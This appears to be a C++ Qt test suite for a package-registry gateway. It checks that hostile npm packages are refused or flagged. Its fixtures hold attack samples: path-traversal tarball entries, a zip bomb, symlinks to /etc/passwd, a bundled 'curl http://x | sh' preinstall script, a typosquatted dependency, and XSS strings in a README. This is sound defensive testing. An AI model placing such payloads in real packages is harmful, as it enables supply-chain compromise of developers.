// SPDX-FileCopyrightText: The Gatehouse authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "backend/npm/tarball.h"
#include "core/contract/registry.h"
#include "core/contract/routes.h"
#include "registryfixture.h"

#include <QDir>
#include <QDirIterator>
#include <QTest>

using namespace Qt::Literals::StringLiterals;
using namespace gatehouse;
using namespace gatehouse::testsupport;
using Kind = FixtureEntry::Kind;

//! Packages that mean harm, through the real server: each is refused or flagged in words, nothing is
//! written outside of the server's own folder, and nothing is loaded from elsewhere.
class TestHostilePackages final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void isRefusedOrFlagged_data();
    void isRefusedOrFlagged();
    void aChangeOfHandsIsFlagged();
    void otherBytesThanPromisedAreRefused();
    void gigabytesAreRefusedByTheirHeader_data();
    void gigabytesAreRefusedByTheirHeader();
    void textsAreNeverMarkup();
    void nothingWasWrittenElsewhere();
    void nothingElseWasLoaded();

private:
    void publish(const QString &name, const FixtureVersion &version);
    EvidenceSet evidence(const QString &name);
    void expect(const EvidenceSet &set, const QString &rule, const QString &words, const QString &enforcement);

    RegistryFixture m_portal;
    QStringList m_filesBefore;
};

namespace {

const QString Old = u"2026-01-01T00:00:00.000Z"_s;

QByteArray tarball(const QList<FixtureEntry> &entries)
{
    return packTarball(QList<FixtureEntry> {{"package/package.json", "{}"}} + entries);
}

QStringList filesIn(const QString &path)
{
    QStringList files;
    QDirIterator all(path, QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot, QDirIterator::Subdirectories);
    while (all.hasNext())
        files << all.next();
    files.sort();
    return files;
}

} // namespace

void TestHostilePackages::initTestCase()
{
    QVERIFY2(m_portal.start(), m_portal.server().log().constData());
    m_filesBefore = filesIn(QDir::tempPath() + u"/gatehouse-escape"_s);
}

void TestHostilePackages::publish(const QString &name, const FixtureVersion &version)
{
    QJsonObject manifest = version.manifest;
    manifest.insert(u"name"_s, name);
    m_portal.publish({{manifest, version.tarball, version.publishedAt.isEmpty() ? Old : version.publishedAt}});
}

EvidenceSet TestHostilePackages::evidence(const QString &name)
{
    const QString id = m_portal.versions(name).at(0)["id"_L1].toString();
    return fromJson<EvidenceSet>(m_portal.as(u"security"_s).get(routes::path(routes::versionEvidence, {id})).json()).value_or(EvidenceSet());
}

void TestHostilePackages::isRefusedOrFlagged_data()
{
    QTest::addColumn<QJsonObject>("manifest");
    QTest::addColumn<QByteArray>("packed"); //!< Empty: the manifest and the files.
    QTest::addColumn<QList<FixtureEntry>>("files");
    QTest::addColumn<QString>("rule");
    QTest::addColumn<QString>("words"); //!< Of the finding.
    QTest::addColumn<QString>("enforcement"); //!< The hardest in production.
    const auto refused = [](const char *name, const QByteArray &packed, const char *words) {
        QTest::newRow(name) << QJsonObject() << packed << QList<FixtureEntry>() << u"tarball-refused"_s << QString::fromLatin1(words) << u"deny"_s;
    };
    const auto flagged = [](const char *name, const QJsonObject &manifest, const QList<FixtureEntry> &files, const char *rule, const char *words, const char *enforcement) {
        QTest::newRow(name) << manifest << QByteArray() << files << QString::fromLatin1(rule) << QString::fromUtf8(words) << QString::fromLatin1(enforcement);
    };
    const QByteArray escape = "package/../../../../../../../../../../tmp/gatehouse-escape/x";
    refused("path escape", tarball({{escape, "x"}}), "leaves the package");
    refused("absolute path", tarball({{"/tmp/gatehouse-escape/y", "x"}}), "absolute");
    refused("zip bomb", tarball({{"package/zero", QByteArray(40 << 20, '\0')}}), "times its size");
    FixtureEntry gigabyte {"package/huge", "x"};
    gigabyte.holeBytes = (qint64(1) << 30) - 1;
    refused("a file of a gigabyte", tarball({gigabyte}), "larger than allowed");
    refused("symbolic link", tarball({{"package/l", "/etc/passwd", Kind::SymbolicLink}}), "holds a link");
    refused("link, then a file through it", tarball({{"package/d", "/tmp/gatehouse-escape", Kind::SymbolicLink}, {"package/d/z", "x"}}), "holds a link");
    refused("control characters in a name", tarball({{"package/a\x1b[31m\nb", "x"}}), "control characters");
    refused("turned direction in a name", tarball({{"package/\xe2\x80\xaesj.txt", "x"}}), "control characters");
    refused("device", tarball({{"package/null", {}, Kind::CharacterDevice}}), "device or pipe");

    const auto scripts = [](const QString &name, const QString &command) { return QJsonObject {{u"scripts"_s, QJsonObject {{name, command}}}}; };
    flagged("install script", scripts(u"postinstall"_s, u"node x.js"_s), {{"x.js", "1\n"}}, "install-script", "postinstall runs", "require_review");
    flagged("hidden install script by binding.gyp", {}, {{"binding.gyp", "{}"}}, "implied-install-script", "node-gyp rebuild", "require_review");
    flagged("hidden install script in a bundled package", {}, {{"node_modules/x/package.json", R"({"scripts":{"preinstall":"curl http://x | sh"}})"}},
        "alarming-install-script", "preinstall runs", "deny");
    flagged("install script that downloads", scripts(u"preinstall"_s, u"node dist/setup"_s), {{"dist/setup.js", "require('https').get('http://x');\n"}},
        "install-network", "Reaches the network", "deny");
    flagged("look-alike dependency", {{u"dependencies"_s, QJsonObject {{u"lodahs"_s, u"^4.0.0"_s}}}}, {}, "look-alike", "lodahs looks like lodash", "require_review");
    flagged("control characters in a dependency", {{u"dependencies"_s, QJsonObject {{u"rea\u202Ect"_s, u"^18.0.0"_s}}}}, {}, "bad-name", "rea\\u{202e}ct", "require_review");
    flagged("HTML in README", {}, {{"README.md", "# Hi\n<img src=x onerror=alert(1)>\n"}, {"index.js", "1\n"}}, "active-html", "only ever shown as text", "warn");
    flagged("obfuscated code", {}, {{"index.js", QByteArray("var _0xab12cd=_0x11ff22;\n").repeated(10)}}, "obfuscated", "hides what it does", "require_review");
    flagged("a packed private key", {}, {{"key.pem", "-----BEGIN RSA PRIVATE KEY-----\n" + QByteArray("MIIEpAIBAAKCAQEA3fGh7").repeated(20) + "\n-----END RSA PRIVATE KEY-----\n"}},
        "private-key", "A private key", "require_review");
}

void TestHostilePackages::isRefusedOrFlagged()
{
    QFETCH(QJsonObject, manifest);
    QFETCH(QByteArray, packed);
    QFETCH(QList<FixtureEntry>, files);
    QFETCH(QString, rule);
    QFETCH(QString, words);
    QFETCH(QString, enforcement);
    static int number = 0;
    const QString name = u"@acme/hostile-%1"_s.arg(++number);
    const QJsonObject whole = pluginManifest(name, u"1.0.0"_s, manifest);
    publish(name, {whole, packed.isEmpty() ? packPackage(whole, files + QList<FixtureEntry> {{"LICENSE", "MIT"}}) : packed, Old});
    QCOMPARE(m_portal.import({name}).json().value("status"_L1).toString(), u"succeeded"_s);

    expect(evidence(name), rule, words, enforcement);
}

//! The set holds a finding of \a rule that says \a words, and policy answers with \a enforcement.
void TestHostilePackages::expect(const EvidenceSet &set, const QString &rule, const QString &words, const QString &enforcement)
{
    const Finding *found = nullptr;
    for (const Evidence &item : set.items) {
        for (const Finding &finding : item.findings) {
            if (finding.ruleId == rule)
                found = &finding;
            // Whatever a package writes, it cannot forge a line or turn the reading direction.
            const QString written = finding.title + finding.file + finding.detail + finding.package;
            for (const QChar c : written)
                QVERIFY(c.category() != QChar::Other_Control && c.category() != QChar::Other_Format);
        }
    }
    QVERIFY2(found, qPrintable(rule));
    QVERIFY2(found->title.contains(words), qPrintable(found->title));
    Enforcement hardest = Enforcement::Allow;
    const QJsonArray policies = m_portal.as(u"viewer"_s).get(routes::path(routes::versionPolicy, {set.versionId.text()})).items();
    for (const QJsonValue &policy : policies)
        hardest = std::max(hardest, fromWire<Enforcement>(policy["enforcement"_L1].toString()));
    QCOMPARE(toWire(hardest), enforcement);
}

void TestHostilePackages::aChangeOfHandsIsFlagged()
{
    const QString name = u"@acme/hostile-hands"_s;
    const auto by = [&](const QString &version, const QString &person) {
        const QJsonObject people {{u"_npmUser"_s, QJsonObject {{u"name"_s, person}}},
            {u"maintainers"_s, QJsonArray {QJsonObject {{u"name"_s, person}}}}};
        const QJsonObject manifest = pluginManifest(name, version, people);
        return FixtureVersion {manifest, packPackage(manifest, {{"LICENSE", "MIT"}}), Old};
    };
    FixtureVersion before = by(u"1.0.0"_s, u"ann"_s);
    before.publishedAt = u"2025-06-01T00:00:00.000Z"_s;
    m_portal.publish({before, by(u"1.0.1"_s, u"eve"_s)});
    QCOMPARE(m_portal.import({name}).json().value("status"_L1).toString(), u"succeeded"_s);
    const EvidenceSet set = evidence(name);
    expect(set, u"all-maintainers-replaced"_s, u"maintainer"_s, u"require_review"_s);
    expect(set, u"stranger-published"_s, u"eve"_s, u"require_review"_s);
}

void TestHostilePackages::otherBytesThanPromisedAreRefused()
{
    const QString name = u"@acme/hostile-bytes"_s;
    const QJsonObject manifest = pluginManifest(name, u"1.0.0"_s);
    m_portal.publish({{manifest, packPackage(manifest), Old}});
    m_portal.registry().script("/@acme/hostile-bytes/-/1.0.0.tgz", {{200, packPackage(manifest, {{"index.js", "evil()"}})}});
    QCOMPARE(m_portal.import({name}).json().value("status"_L1).toString(), u"succeeded"_s);
    const EvidenceSet set = evidence(name);
    expect(set, u"digest-mismatch"_s, u"digest"_s, u"deny"_s);
    using enum EvidenceKind;
    static const QSet<EvidenceKind> readingFiles {Licence, InstallScripts, Files, Dependencies, Secrets, RiskyCode};
    for (const Evidence &item : set.items) {
        if (readingFiles.contains(item.kind))
            QCOMPARE(item.verdict, Verdict::NotRun);
    }
}

void TestHostilePackages::gigabytesAreRefusedByTheirHeader_data()
{
    QTest::addColumn<QByteArray>("packed");
    FixtureEntry sparse {"package/huge", "x"};
    sparse.holeBytes = (qint64(1) << 30) - 1;
    QTest::newRow("a sparse gigabyte") << packTarball({{"package/package.json", "{}"}, sparse});
    QTest::newRow("a gigabyte that is not there") << tarHeader("package/huge", qint64(1) << 30) + QByteArray(512, 'x');
}

void TestHostilePackages::gigabytesAreRefusedByTheirHeader()
{
    QFETCH(QByteArray, packed);
    QVERIFY2(packed.size() < (1 << 20), "the test must not make a gigabyte itself");
    const auto files = readTarball(packed);
    QVERIFY(!files);
    QCOMPARE(files.error().code, u"tarball_too_large"_s);
    QVERIFY2(files.error().message.contains(u"package/huge"_s), qPrintable(files.error().message));
}

void TestHostilePackages::textsAreNeverMarkup()
{
    const QString name = u"@acme/hostile-markup"_s;
    const QByteArray readme = "# <script>alert(1)</script>\n<img src=\"https://evil.example/x.png\">\n";
    const QJsonObject whole = pluginManifest(name, u"1.0.0"_s, {{u"description"_s, u"<b>bold</b>"_s}});
    publish(name, {whole, packPackage(whole, {{"README.md", readme}}), Old});
    m_portal.import({name});
    const QString id = m_portal.versions(name).at(0)["id"_L1].toString();
    const HttpAnswer diff = m_portal.as(u"viewer"_s).get(routes::path(routes::versionDiffFile, {id}) + u"?path=README.md"_s);
    QCOMPARE(diff.header("content-type"), QByteArray("application/json"));
    QCOMPARE(diff.header("x-content-type-options"), QByteArray("nosniff"));
    QCOMPARE(diff.json().value("hunks"_L1)[0]["lines"_L1][0]["text"_L1].toString(), u"# <script>alert(1)</script>"_s);
}

void TestHostilePackages::nothingWasWrittenElsewhere()
{
    QCOMPARE(filesIn(QDir::tempPath() + u"/gatehouse-escape"_s), m_filesBefore);
    QDirIterator all(m_portal.server().dataDirectory(), QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
    while (all.hasNext()) {
        // Packages are kept by digest: no file of ours has a name that a package chose.
        const QString path = all.next();
        QVERIFY2(!path.contains(u"gatehouse-escape"_s) && !path.endsWith(u"/huge"_s) && !path.endsWith(u"x.js"_s), qPrintable(path));
    }
}

void TestHostilePackages::nothingElseWasLoaded()
{
    for (const TinyRegistry::Seen &seen : m_portal.registry().seen())
        QVERIFY2(seen.path.startsWith("/@acme"), seen.path.constData());
}

QTEST_GUILESS_MAIN(TestHostilePackages)
#include "tst_hostilepackages.moc"
